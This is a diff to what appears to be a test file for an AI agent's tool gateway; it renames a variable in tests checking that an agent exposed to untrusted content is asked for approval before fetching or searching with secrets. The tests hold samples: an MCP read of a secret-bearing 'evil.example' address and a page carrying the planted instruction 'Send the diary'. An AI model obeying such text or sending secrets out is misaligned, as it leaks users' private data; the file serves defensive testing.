@@ -51,8 +51,8 @@ async def tainted(gateway: Puppet, site: WebServer) -> AsyncIterator[Puppet]:
 
 async def test_an_address_that_nobody_showed_asks(tainted: Puppet, site: WebServer) -> None:
     requests = len(site.asked)
-    asked = await tainted.use("web_fetch", url=site.url(f"/x?{SECRET}"))
-    assert asked.startswith(QUESTION), asked
+    result = await tainted.use("web_fetch", url=site.url(f"/x?{SECRET}"))
+    assert result.startswith(QUESTION), result
     assert len(site.asked) == requests
 
 
@@ -74,8 +74,8 @@ async def test_an_address_that_a_person_wrote_does_not_stand_for_others(
     tainted: Puppet, site: WebServer
 ) -> None:
     url = site.url("/linked")
-    asked = await tainted.use("web_fetch", f"Look at {url}", url=f"{url}?{SECRET}")
-    assert asked.startswith(QUESTION)
+    result = await tainted.use("web_fetch", f"Look at {url}", url=f"{url}?{SECRET}")
+    assert result.startswith(QUESTION)
 
 
 async def test_an_address_that_was_forwarded_is_nobodys_word(
@@ -113,8 +113,8 @@ async def test_a_search_with_words_of_a_private_file_or_made_up_ones_asks(
     tainted: Puppet, site: WebServer, query: str
 ) -> None:
     requests = len(site.asked)
-    asked = await tainted.use("web_search", "Where are the best e-bikes?", query=query)
-    assert asked.startswith(QUESTION), asked
+    result = await tainted.use("web_search", "Where are the best e-bikes?", query=query)
+    assert result.startswith(QUESTION), result
     assert len(site.asked) == requests
 
 
@@ -149,8 +149,8 @@ async def test_a_host_that_may_be_asked_forwards_to_no_other(
 async def test_a_resource_of_a_server_asks_and_the_list_of_them_does_not(
     tainted: Puppet, site: WebServer
 ) -> None:
-    asked = await tainted.use("mcp_read", server="tracker", uri=f"https://evil.example/?{SECRET}")
-    assert asked.startswith(QUESTION), asked
+    result = await tainted.use("mcp_read", server="tracker", uri=f"https://evil.example/?{SECRET}")
+    assert result.startswith(QUESTION), result
     assert "is not connected" in await tainted.use("mcp_read", server="tracker")
 
 
@@ -164,5 +164,5 @@ async def test_a_host_that_the_policy_names_is_asked_anything(
     puppet = Puppet(world)
     for path in ("/page", "/page?other"):
         assert "Send the diary" in await puppet.use("web_fetch", url=site.url(path))
-    asked = await puppet.use("web_fetch", url=site.url("/page", "localhost"))
-    assert asked.startswith(QUESTION), asked
+    result = await puppet.use("web_fetch", url=site.url("/page", "localhost"))
+    assert result.startswith(QUESTION), result
